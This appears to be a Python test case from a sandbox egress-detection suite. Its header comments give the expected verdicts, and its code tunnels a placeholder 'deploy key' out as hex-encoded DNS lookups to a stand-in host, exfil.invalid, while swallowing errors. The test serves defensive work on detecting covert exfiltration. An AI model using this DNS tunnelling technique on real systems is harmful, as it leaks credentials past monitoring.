# attack: tunnel a secret out through DNS names, one hex label per lookup, swallowing every error and exiting 0
# expect: VIOLATION DNS
# expect-runsc: PASSED
# evidence: network-sink
# stopped-by: no resolver, no network; the network witness reads the names off loopback (gVisor: no witness)
import socket
secret = "the pipeline's deploy key, in pieces".encode().hex()
for i in range(0, len(secret), 40):
    try:
        socket.getaddrinfo(secret[i:i + 40] + ".t.exfil.invalid", 53)
    except OSError:
        pass
